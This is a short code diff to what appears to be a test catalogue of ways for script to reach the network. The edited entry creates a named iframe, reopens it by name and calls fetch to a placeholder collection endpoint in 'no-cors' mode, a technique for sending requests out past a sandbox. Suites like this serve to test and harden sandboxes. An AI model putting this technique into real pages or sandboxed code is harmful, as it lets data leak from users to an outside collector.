@@ -49,7 +49,7 @@ export const realms: readonly Way[] = [
   byScript(
     'realm-by-name',
     'the fetch of an empty frame, found by its name',
-    `${BLANK}f.name='inner';window.open('','inner').fetch('${COLLECT}',{mode:'no-cors'})${QUIET}`,
+    `var f=document.createElement('iframe');f.name='inner';document.body.append(f);window.open('','inner').fetch('${COLLECT}',{mode:'no-cors'})${QUIET}`,
     sentCollect,
   ),
   {
